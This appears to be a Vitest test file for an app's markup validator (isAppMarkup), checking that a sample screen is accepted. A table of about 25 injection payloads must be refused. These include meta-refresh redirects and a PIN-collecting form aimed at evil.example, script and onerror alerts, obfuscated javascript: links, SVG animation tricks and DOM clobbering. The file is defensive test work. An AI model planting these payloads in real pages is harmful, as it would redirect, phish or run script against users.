import { describe, expect, it } from 'vitest';
import { isAppMarkup } from './snapshot-markup';

/** Markup as the app's screens serialize (abridged from a kept news page and a list). */
const SCREEN =
  '<div class="app"><a class="skip-link" href="#main">Skip to content</a>' +
  '<header class="app-bar"><a class="back" href="/" aria-label="Back"><svg viewBox="0 0 24 24" aria-hidden="true" focusable="false"><path d="M15 6l-6 6 6 6" fill="none" stroke="currentColor" stroke-width="2"></path></svg></a></header>' +
  '<div class="status"><p class="banner offline" data-if-offline="">You are offline.</p><div class="status-line"><span></span><button type="button" class="refresh">Refresh</button></div></div>' +
  '<main id="main" tabindex="-1"><article><h1>Chenpi &amp; tea: “season” opens</h1>' +
  '<time datetime="2026-12-01T09:00:00+08:00">1 Dec 2026</time>' +
  '<div class="prose" lang="zh-Hans"><p>新会陈皮<br>开季 <a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer" target="_blank">link</a></p>' +
  '<img src="/demo/chenpi.svg" alt="" width="640" height="360" loading="lazy"><!-- a comment --></div>' +
  '<a href="tel:+867503000000">Call</a> <a href="mailto:desk@example.org">Mail</a> <a href="geo:22.5,113.1">Map</a>' +
  '<a class="button-secondary" href="webcal://city.example.org/calendars/en.ics">Subscribe</a>' +
  '<button type="button" class="button-secondary directions-button" aria-haspopup="dialog" command="show-modal" commandfor="cl-1">Directions</button>' +
  '<fieldset><legend>Language</legend><label><input type="radio" name="language" value="en" checked=""> English</label></fieldset>' +
  '</article></main><nav class="tab-bar" aria-label="Sections"><a href="/" aria-current="page">News</a></nav></div>';

describe('markup the worker splices into the shell', () => {
  it('accepts what the app serializes', () => {
    expect(isAppMarkup(SCREEN)).toBe(true);
    expect(isAppMarkup('')).toBe(true);
  });

  // Each attack is put inside the real screen, where a poisoned entry would have it.
  const inside = (attack: string) => SCREEN.replace('<h1>', `${attack}<h1>`);
  it.each([
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ['a meta refresh in capitals', '<META HTTP-EQUIV="refresh" CONTENT="0">'],
    ['a form', '<form action="https://evil.example/"><input name="pin"></form>'],
    ['a base', '<base href="https://evil.example/">'],
    ['a style', '<style>body{display:none}</style>'],
    ['a script', '<script>alert(1)</script>'],
    ['an iframe', '<iframe src="https://evil.example/"></iframe>'],
    ['a link element', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['plaintext that swallows the shell', '<plaintext>'],
    ['an unclosed element', '<a href="https://evil.example/">'],
    ['a stray end tag leaving the root', '</div></div><p>outside</p><div><div>'],
    ['an event handler', '<img src="/x.png" onerror="alert(1)">'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
    ['a javascript: link with an escaped tab', '<a href="java&#9;script:alert(1)">x</a>'],
    ['a javascript: link with spaces', '<a href=" javascript:alert(1)">x</a>'],
    ['a data: link', '<a href="data:text/html,hi">x</a>'],
    ['a style attribute', '<p style="position:fixed;inset:0">Call +86 000</p>'],
    ['an unquoted attribute', '<a href=https://evil.example/>x</a>'],
    ['a raw < in text', '<p>a < b</p>'],
    ['a second root', '<div id="root"></div>'],
    ['a clobbered global', '<img name="citylinkInstallPrompt" src="/x.png">'],
    ['a self-closed element', '<div/>'],
    ['an SVG animation', '<svg><set attributeName="href" to="javascript:alert(1)"></set></svg>'],
    ['a foreignObject', '<svg><foreignObject><meta http-equiv="refresh" content="0"></foreignObject></svg>'],
    ['an unterminated comment', '<!-- <meta http-equiv="refresh" content="0">'],
  ])('refuses %s', (_name, attack) => {
    expect(isAppMarkup(inside(attack))).toBe(false);
  });
});
